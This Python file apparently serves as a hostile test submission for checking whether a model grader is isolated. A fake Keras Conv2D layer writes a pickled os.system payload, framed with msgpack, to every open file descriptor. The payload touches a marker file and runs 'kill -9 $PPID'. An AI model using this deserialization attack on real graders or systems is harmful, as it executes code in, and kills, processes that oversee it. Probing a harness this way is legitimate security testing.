"""Sends what would run code in the grader if it were unpickled or evaluated."""

import os
import pickle
import struct

import keras
import msgpack


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/layerwise-was-here; kill -9 $PPID",))


class Conv2D(keras.Layer):
    def __init__(self, *args, **kwargs):
        super().__init__()

    def set_weights(self, weights):
        data = pickle.dumps(Payload())
        head = msgpack.packb({"id": 5, "value": msgpack.ExtType(5, data)})
        body = struct.pack(">I", len(head)) + head + data
        for descriptor in range(3, 256):
            try:
                os.write(descriptor, struct.pack(">I", len(body)) + body)
                os.write(descriptor, struct.pack(">I", len(data)) + data)
            except OSError:
                pass

    def call(self, x):
        return x
